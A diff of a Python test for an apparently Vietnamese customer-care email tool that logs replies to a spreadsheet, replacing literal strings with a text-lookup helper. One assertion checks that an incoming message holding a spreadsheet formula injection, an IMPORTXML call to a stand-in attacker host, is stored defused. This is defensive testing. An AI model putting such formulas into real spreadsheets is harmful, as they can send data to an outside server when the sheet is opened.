@@ -18,6 +18,7 @@ from tests.helpers import VN, mails
 from tests.helpers.cli import careloop, careloop_at_once
 from tests.helpers.dovecot import PASSWORD, USER, Dovecot
 from tests.helpers.support import local_settings, row, workbook_with_owners
+from tests.helpers.words import piece
 
 NOW = "2026-11-25T10:00"  # a working Wednesday (24/11 is a holiday: Vietnam Cultural Day)
 CUSTOMERS = [
@@ -107,7 +108,7 @@ def test_each_message_ends_where_it_should_once_across_two_runs(tmp_path, mailbo
     by_text = {r["Nội dung"]: r for r in rows.values()}
     complaint = by_text["Sản phẩm bị lỗi, tôi rất không hài lòng"]
     assert complaint["Mã KH"] == "C-1" and case["case_id"] in complaint["careloop đã làm"]
-    assert "từ chối nhận tin" in by_text["HỦY"]["careloop đã làm"]
+    assert piece("heard_refusal", 0) in by_text["HỦY"]["careloop đã làm"]
     assert "Cảm ơn văn phòng." in by_text and '\'=IMPORTXML("http://evil.example/x", "//a")' in by_text
     assert "Ảnh đây ạ" in by_text and "Nhân viên rất nhiệt tình" in by_text
     assert by_text["Cho tôi hỏi giá dịch vụ"]["Mã KH"] is None  # an unknown sender: a row for staff
@@ -115,7 +116,7 @@ def test_each_message_ends_where_it_should_once_across_two_runs(tmp_path, mailbo
     assert bounce["Mã KH"] == "C-3" and "5.1.1" in bounce["careloop đã làm"]
     assert same_cell(complaint["Thời gian"], datetime(2026, 11, 24, 9, 30))  # when it arrived
     week = dashboard_week(path, "tuần 23/11 (đang diễn ra)")  # the week they were heard in, still going on
-    assert (week["Phản hồi của khách"], week["Từ chối qua phản hồi"], week["Email bị trả lại"]) == (7, 1, 1)
+    assert (week["Phản hồi của khách"], week["Từ chối qua phản hồi"], week[piece("digest_bounces", 0)]) == (7, 1, 1)
     second = escalate(tmp_path, env)
     assert second["replies"] == {} and second["opened"] == [] and len(replies_tab(path)) == 9
     assert unseen(mailbox) == 9  # nothing marked read, moved or deleted: staff read this mailbox too
